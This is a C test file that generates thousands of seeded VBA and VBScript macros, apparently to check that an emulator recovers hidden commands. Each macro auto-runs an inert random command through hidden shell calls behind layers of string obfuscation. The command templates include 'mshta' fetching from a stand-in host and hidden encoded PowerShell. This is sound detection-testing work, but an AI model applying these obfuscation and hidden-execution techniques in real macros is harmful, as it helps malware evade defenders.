/* test_property.c - thousands of seeded macros that hide one known command under random layers:
 * at least 99 of 100 are found to the letter, and nothing else is ever claimed to be run.
 *
 * All are inert texts of our own making; HN_SEEDS says how many (4,000), an argument prints one. */
#include "vb_dump.h"

#include "base/enc.h"

#include <stdarg.h>
#include <stdlib.h>

/* clang-format off */
#include <setjmp.h>
#include <cmocka.h>
/* clang-format on */

#define DEPTH_MAX 4

struct maker {
    uint64_t state;
    bool vba;
    struct hn_buf body;      /* statements so far */
    struct hn_buf functions; /* procedures that they use */
    unsigned names;
    struct vb_dump dump; /* its stores hold what forms say */
    char text_room[64][2048];
};

static uint32_t next(struct maker *m, uint32_t below)
{
    m->state = m->state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(m->state >> 33) % below;
}

static void expr(struct maker *m, struct hn_buf *out, struct hn_text text, int depth);

static void literal(struct hn_buf *out, struct hn_text text)
{
    hn_buf_add_char(out, '"');
    for (size_t i = 0; i < text.len; i++) {
        if (text.ptr[i] == '"')
            hn_buf_add_char(out, '"');
        hn_buf_add_char(out, text.ptr[i]);
    }
    hn_buf_add_char(out, '"');
}

static void junk(struct maker *m, struct hn_buf *out, uint32_t len)
{
    for (uint32_t i = 0; i < len; i++)
        hn_buf_add_char(out, (char)('A' + next(m, 26)));
}

static void made(struct maker *m, struct hn_buf *out, struct hn_buf *text, int depth)
{
    expr(m, out, hn_buf_text(text), depth);
    hn_buf_deinit(text);
}

static void by_split(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    size_t at = 1 + next(m, (uint32_t)text.len - 1);

    hn_buf_add_char(out, '(');
    expr(m, out, hn_text_sub(text, 0, at), depth);
    hn_buf_add_cstr(out, next(m, 2) == 0 ? " & " : " + ");
    expr(m, out, hn_text_sub(text, at, SIZE_MAX), depth);
    hn_buf_add_char(out, ')');
}

static void by_chr(struct maker *m, struct hn_buf *out, struct hn_text text)
{
    for (size_t i = 0; i < text.len; i++) {
        unsigned c = (unsigned char)text.ptr[i];
        unsigned key = 1 + next(m, 60);

        if (i > 0)
            hn_buf_add_lit(out, " & ");
        switch (next(m, 5)) {
        case 0:
            hn_buf_addf(out, "Chr(%u)", c);
            break;
        case 1:
            hn_buf_addf(out, "ChrW(&H%X)", c);
            break;
        case 2:
            hn_buf_addf(out, "Chr(%u - %u)", c + key, key);
            break;
        case 3:
            hn_buf_addf(out, "Chr(%u Xor %u)", c ^ key, key);
            break;
        default:
            hn_buf_addf(out, "Chr(CLng(\"&H%X\"))", c);
            break;
        }
    }
}

static void by_reverse(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    struct hn_buf reversed = { 0 };

    for (size_t i = text.len; i > 0; i--)
        hn_buf_add_char(&reversed, text.ptr[i - 1]);
    hn_buf_add_lit(out, "StrReverse(");
    made(m, out, &reversed, depth);
    hn_buf_add_char(out, ')');
}

/* Noise put between parts of the same noise may not be what is found first. */
static bool comes_back(struct hn_text noisy, struct hn_text noise, struct hn_text text)
{
    size_t len = 0;

    for (size_t i = 0; i < noisy.len; len++) {
        while (hn_text_starts(hn_text_sub(noisy, i, SIZE_MAX), noise))
            i += noise.len;
        if (i < noisy.len && (len >= text.len || noisy.ptr[i] != text.ptr[len]))
            return false;
        if (i == noisy.len)
            break;
        i++;
    }
    return len == text.len;
}

/* Noise is of other characters than any command has. */
static void by_noise(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    static const char *const noises[] = { "]anw[3", "#@#", "QZQ", "~~", "{_}" };
    const char *noise = noises[next(m, 5)];
    struct hn_buf noisy = { 0 };
    bool join = next(m, 2) == 0;

    for (size_t i = 0; i < text.len; i++) {
        hn_buf_add_char(&noisy, text.ptr[i]);
        if (next(m, 3) == 0)
            hn_buf_add_cstr(&noisy, noise);
    }
    if (!comes_back(hn_buf_text(&noisy), hn_text_cstr(noise), text)) {
        hn_buf_deinit(&noisy);
        literal(out, text);
        return;
    }
    hn_buf_add_cstr(out, join ? "Join(Split(" : "Replace(");
    made(m, out, &noisy, depth);
    hn_buf_add_lit(out, ", ");
    literal(out, hn_text_cstr(noise));
    hn_buf_add_cstr(out, join ? "), \"\")" : ", \"\")");
}

static void by_mid(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    struct hn_buf padded = { 0 };
    uint32_t front = next(m, 6);

    junk(m, &padded, front);
    hn_buf_add_text(&padded, text);
    junk(m, &padded, next(m, 6));
    hn_buf_add_lit(out, "Mid(");
    made(m, out, &padded, depth);
    hn_buf_addf(out, ", %u, %zu)", front + 1, text.len);
}

static void by_array(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    hn_buf_add_lit(out, "Join(Array(");
    while (text.len > 0) {
        size_t len = 1 + next(m, 6);

        expr(m, out, hn_text_sub(text, 0, len), depth);
        text = hn_text_sub(text, len, SIZE_MAX);
        if (text.len > 0)
            hn_buf_add_lit(out, ", ");
    }
    hn_buf_add_lit(out, "), \"\")");
}

/* A decoder with a loop: subtracts, xors, or reads hexadecimal digits. */
static void by_function(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    unsigned name = m->names++;
    unsigned key = 1 + next(m, 4);
    uint32_t kind = next(m, 3);
    struct hn_buf encoded = { 0 };

    for (size_t i = 0; i < text.len; i++) {
        unsigned c = (unsigned char)text.ptr[i];

        if (kind == 0)
            hn_buf_add_char(&encoded, (char)(c + key > 126 ? c + key - 95 : c + key));
        else
            hn_buf_addf(&encoded, "%02X", kind == 1 ? c ^ key : c);
    }
    hn_buf_addf(&m->functions, "Function fn%u(ByVal a)\n  Dim i, r\n", name);
    if (kind == 0) {
        hn_buf_addf(&m->functions,
                "  For i = 1 To Len(a)\n    r = Asc(Mid(a, i, 1)) - %u\n"
                "    If r < 32 Then r = r + 95\n    fn%u = fn%u & Chr(r)\n  Next\n",
                key, name, name);
    } else {
        hn_buf_addf(&m->functions,
                "  i = 1\n  Do While i < Len(a)\n"
                "    r = r & Chr(CInt(\"&H\" & Mid(a, i, 2)) Xor %u)\n    i = i + 2\n  Loop\n"
                "  fn%u = r\n",
                kind == 1 ? key : 0, name);
    }
    hn_buf_add_lit(&m->functions, "End Function\n");
    hn_buf_addf(out, "fn%u(", name);
    made(m, out, &encoded, depth > 1 ? 1 : depth);
    hn_buf_add_char(out, ')');
}

static void by_base64(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    unsigned name = m->names++;
    struct hn_buf encoded = { 0 };

    hn_base64_encode(&encoded, hn_text_as_bytes(text));
    hn_buf_addf(&m->functions,
            "Function fn%u(a)\n  With CreateObject(\"Microsoft.XMLDOM\").createElement(\"x\")\n"
            "    .DataType = \"bin.base64\"\n    .Text = a\n    fn%u = conv(.nodeTypedValue)\n"
            "  End With\nEnd Function\n",
            name, name);
    hn_buf_addf(out, "fn%u(", name);
    made(m, out, &encoded, depth > 1 ? 1 : depth);
    hn_buf_add_char(out, ')');
}

/* A string of the document. */
static void by_store(struct maker *m, struct hn_buf *out, struct hn_text text)
{
    static const char *const kinds[] = { "UserForm1.T%u.Text", "Frm.L%u.Caption",
        "ActiveDocument.Variables(\"v%u\").Value", "Sheets(\"S\").Range(\"A%u\").Value" };
    static const char *const spellings[] = { "UserForm1.T%u", "Frm.L%u.Caption",
        "ThisDocument.Variables(\"v%u\")", "Worksheets(\"S\").Cells(%u, 1).Value2" };
    struct vb_dump *dump = &m->dump;
    struct hn_buf name = { 0 };
    uint32_t kind = next(m, 4);
    unsigned number = m->names++ + 1;

    if (!m->vba || dump->store_count >= 30 || text.len > 2000) {
        literal(out, text);
        return;
    }
    for (const char *at = kinds[kind]; *at != '\0'; at++) {
        if (*at == '%')
            hn_buf_add_u64(&name, number);
        else if (at == kinds[kind] || at[-1] != '%')
            hn_buf_add_char(&name, *at);
    }
    for (const char *at = spellings[kind]; *at != '\0'; at++) {
        if (*at == '%')
            hn_buf_add_u64(out, number);
        else if (at == spellings[kind] || at[-1] != '%')
            hn_buf_add_char(out, *at);
    }
    if (name.len > 0)
        memcpy(m->text_room[dump->store_count * 2], name.ptr, name.len);
    memcpy(m->text_room[dump->store_count * 2 + 1], text.ptr, text.len);
    dump->stores[dump->store_count].name =
            hn_text_of(m->text_room[dump->store_count * 2], name.len);
    dump->stores[dump->store_count].value =
            hn_text_of(m->text_room[dump->store_count * 2 + 1], text.len);
    dump->store_count++;
    hn_buf_deinit(&name);
}

/* A variable, set before: at once, in pieces, or in a loop over numbers. */
static void by_variable(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    unsigned name = m->names++;
    struct hn_buf lines = { 0 };

    if (next(m, 2) == 0) {
        hn_buf_addf(&lines, "  v%u = ", name);
        expr(m, &lines, hn_text_sub(text, 0, text.len / 2), depth);
        hn_buf_addf(&lines, "\n  v%u = v%u & ", name, name);
        expr(m, &lines, hn_text_sub(text, text.len / 2, SIZE_MAX), depth);
        hn_buf_add_lit(&lines, "\n");
    } else {
        unsigned key = 1 + next(m, 200);

        hn_buf_addf(&lines, "  v%u = \"\"\n  For Each c%u In Array(", name, name);
        for (size_t i = 0; i < text.len; i++)
            hn_buf_addf(&lines, "%s%u", i > 0 ? ", " : "", (unsigned char)text.ptr[i] ^ key);
        hn_buf_addf(&lines, ")\n    v%u = v%u & Chr(c%u Xor %u)\n  Next\n", name, name, name, key);
    }
    hn_buf_add_text(&m->body, hn_buf_text(&lines));
    hn_buf_deinit(&lines);
    hn_buf_addf(out, "v%u", name);
}

static void by_choice(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    bool first = next(m, 2) == 0;

    if (!m->vba) {
        literal(out, text);
        return;
    }
    hn_buf_addf(out, "IIf(%u %c %u, ", next(m, 50), first ? '<' : '>', 100 + next(m, 50));
    if (first)
        expr(m, out, text, depth);
    else
        hn_buf_add_lit(out, "\"no\"");
    hn_buf_add_lit(out, ", ");
    if (first)
        hn_buf_add_lit(out, "\"no\"");
    else
        expr(m, out, text, depth);
    hn_buf_add_char(out, ')');
}

static void expr(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    if (depth == 0 || text.len < 2) {
        if (next(m, 4) == 0 && text.len > 0 && text.len < 12)
            by_chr(m, out, text);
        else
            literal(out, text);
        return;
    }
    switch (next(m, 12)) {
    case 0:
        by_chr(m, out, text);
        break;
    case 1:
        by_reverse(m, out, text, depth - 1);
        break;
    case 2:
    case 3:
        by_noise(m, out, text, depth - 1);
        break;
    case 4:
        by_mid(m, out, text, depth - 1);
        break;
    case 5:
        by_array(m, out, text, depth - 1);
        break;
    case 6:
        by_function(m, out, text, depth - 1);
        break;
    case 7:
        by_base64(m, out, text, depth - 1);
        break;
    case 8:
        by_store(m, out, text);
        break;
    case 9:
        by_variable(m, out, text, depth - 1);
        break;
    case 10:
        by_choice(m, out, text, depth - 1);
        break;
    default:
        by_split(m, out, text, depth - 1);
        break;
    }
}

/* What does nothing, or what nobody can know whether it is done. */
static void dead_code(struct maker *m, struct hn_buf *out)
{
    unsigned name = m->names++;

    switch (next(m, 7)) {
    case 0:
        hn_buf_addf(out, "  If %u > %u Then\n    j%u = \"", next(m, 50), 60 + next(m, 9), name);
        junk(m, out, 8);
        hn_buf_add_lit(out, "\"\n  End If\n");
        break;
    case 1:
        hn_buf_addf(out, "  If Rnd > 0.%u Then j%u = 1 Else j%u = 2\n", next(m, 9), name, name);
        break;
    case 2:
        hn_buf_addf(out, "  For j%u = 1 To %u\n    k%u = k%u + j%u * 3 - 1\n  Next\n", name,
                next(m, 20), name, name, name);
        break;
    case 3:
        hn_buf_addf(out, "  j%u = Sqr(%u) + Sin(%u) ' ", name, next(m, 900), next(m, 9));
        junk(m, out, 5);
        hn_buf_add_lit(out, "\n");
        break;
    case 4:
        hn_buf_addf(out,
                "  Select Case %u\n  Case %u: j%u = 1\n  Case Else: j%u = 2\n  End Select\n",
                next(m, 5), next(m, 5), name, name);
        break;
    case 5:
        hn_buf_addf(
                out, "  While j%u < %u\n    j%u = j%u + 1\n  Wend\n", name, next(m, 9), name, name);
        break;
    default:
        hn_buf_addf(out, "  If Hour(Now) = 25 Then Exit Sub\n");
        break;
    }
}

/* Random letters to tell commands apart. */
static void command(struct maker *m, struct hn_buf *out)
{
    static const char *const heads[] = { "cmd /c echo \"", "powershell -w hidden -e ",
        "mshta http://a.example/", "rundll32 C:\\ProgramData\\", "wscript //e:jscript " };

    hn_buf_add_cstr(out, heads[next(m, 5)]);
    for (uint32_t i = 4 + next(m, 30); i > 0; i--)
        hn_buf_add_char(out, "abcdefghijklmnopqrstuvwxyz0123456789+/=-.,_%^ "[next(m, 46)]);
    hn_buf_add_char(out, 'z');
}

static void run_of(struct maker *m, const char *what)
{
    struct hn_buf name = { 0 };

    switch (next(m, m->vba ? 5 : 3)) {
    case 0:
        hn_buf_add_lit(&name, "WScript.Shell");
        hn_buf_add_lit(&m->body, "  Set o = CreateObject(");
        literal(&m->body, hn_text_sub(hn_buf_text(&name), 0, 7));
        hn_buf_add_lit(&m->body, " & ");
        literal(&m->body, hn_text_sub(hn_buf_text(&name), 7, SIZE_MAX));
        hn_buf_addf(&m->body, ")\n  o.Run %s, 0, False\n", what);
        break;
    case 1:
        hn_buf_addf(&m->body,
                "  GetObject(\"winmgmts:\" & \"Win32_Process\").Create %s, Null, Null, p\n", what);
        break;
    case 2:
        hn_buf_addf(&m->body,
                "  With CreateObject(\"Shell.Application\")\n    .ShellExecute %s, \"\", \"\", "
                "\"open\", 0\n"
                "  End With\n",
                what);
        break;
    case 3:
        hn_buf_addf(&m->body, "  Shell %s, vbHide\n", what);
        break;
    default:
        hn_buf_addf(&m->body,
                "  CallByName CreateObject(\"WScript.Shell\"), \"R\" & \"un\", 1, %s, 0\n", what);
        break;
    }
    hn_buf_deinit(&name);
}

static void make(struct maker *m, struct hn_text text, struct hn_buf *source)
{
    struct hn_buf value = { 0 };

    if (next(m, 3) == 0)
        dead_code(m, &m->body);
    expr(m, &value, text, DEPTH_MAX);
    hn_buf_addf(&m->body, "  s = %.*s\n", HN_TEXT_ARG(hn_buf_text(&value)));
    hn_buf_deinit(&value);
    if (next(m, 2) == 0)
        dead_code(m, &m->body);
    run_of(m, "s");
    hn_buf_addf(source, "%sSub %s()\n%s", m->vba ? "Attribute VB_Name = \"M\"\n" : "",
            m->vba ? "AutoOpen" : "go", next(m, 2) == 0 ? "  On Error Resume Next\n" : "");
    hn_buf_add_text(source, hn_buf_text(&m->body));
    hn_buf_add_lit(source, "End Sub\n");
    hn_buf_add_text(source, hn_buf_text(&m->functions));
    if (m->vba) {
        hn_buf_add_lit(source, "Function conv(b)\n  conv = StrConv(b, vbUnicode)\nEnd Function\n");
    } else {
        hn_buf_add_lit(source,
                "Function conv(b)\n  With CreateObject(\"ADODB.Stream\")\n    .Type = 1\n    "
                ".Open\n"
                "    .Write b\n    .Position = 0\n    .Type = 2\n    .CharSet = \"us-ascii\"\n"
                "    conv = .ReadText\n  End With\nEnd Function\ngo\n");
    }
}

struct result {
    unsigned found;
    unsigned invented;
};

static void judge(struct maker *m, struct hn_text text, struct result *result)
{
    struct hn_buf wanted = { 0 };
    struct hn_text lines = hn_buf_text(&m->dump.lines);
    struct hn_text line;
    bool found = false;

    hn_buf_add_lit(&wanted, " | CommandLine=");
    hn_buf_add_text(&wanted, text);
    while (hn_text_line(&lines, &line)) {
        if (!hn_text_starts(line, HN_TEXT("process ")))
            continue;
        if (hn_text_ends(line, hn_buf_text(&wanted)))
            found = true;
        else
            result->invented++;
    }
    result->found += found;
    hn_buf_deinit(&wanted);
}

static void run_seed(uint64_t seed, bool print, struct result *result)
{
    static struct maker m;
    struct hn_buf text = { 0 };
    struct hn_buf source = { 0 };
    struct script_part part = { .name = HN_TEXT_INIT("M") };
    struct result before = *result;

    m.state = seed * 7919 + 1;
    m.names = 0;
    m.dump = (struct vb_dump){ 0 };
    m.body = (struct hn_buf){ 0 };
    m.functions = (struct hn_buf){ 0 };
    m.vba = next(&m, 4) != 0;
    command(&m, &text);
    make(&m, hn_buf_text(&text), &source);
    part.text = hn_buf_text(&source);
    assert_int_equal(
            vb_dump_run(&m.dump, m.vba ? SCRIPT_VBA : SCRIPT_VBSCRIPT, &part, 1, NULL), HN_OK);
    judge(&m, hn_buf_text(&text), result);
    if (print || result->invented != before.invented || result->found == before.found) {
        print_message("seed %llu %s: %.*s\n", (unsigned long long)seed,
                result->found == before.found ? "lost" : "found", HN_TEXT_ARG(hn_buf_text(&text)));
        if (print)
            printf("%.*s\n----\n%.*s\n", HN_TEXT_ARG(part.text),
                    HN_TEXT_ARG(hn_buf_text(&m.dump.lines)));
    }
    hn_buf_deinit(&m.body);
    hn_buf_deinit(&m.functions);
    hn_buf_deinit(&m.dump.lines);
    hn_buf_deinit(&text);
    hn_buf_deinit(&source);
}

static void hidden_commands_are_found(void **state)
{
    const char *setting = getenv("HN_SEEDS");
    unsigned seeds = setting != NULL ? (unsigned)strtoul(setting, NULL, 10) : 4000;
    struct result result = { 0 };

    (void)state;
    for (uint64_t seed = 0; seed < seeds; seed++)
        run_seed(seed, false, &result);
    print_message("%u of %u found, %u invented\n", result.found, seeds, result.invented);
    assert_int_equal(result.invented, 0);
    assert_true((uint64_t)result.found * 100 >= (uint64_t)seeds * 99);
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(hidden_commands_are_found) };
    struct result result = { 0 };

    if (argc > 1) {
        run_seed(strtoull(argv[1], NULL, 10), true, &result);
        return result.found == 1 && result.invented == 0 ? 0 : 1;
    }
    return cmocka_run_group_tests(tests, NULL, NULL);
}
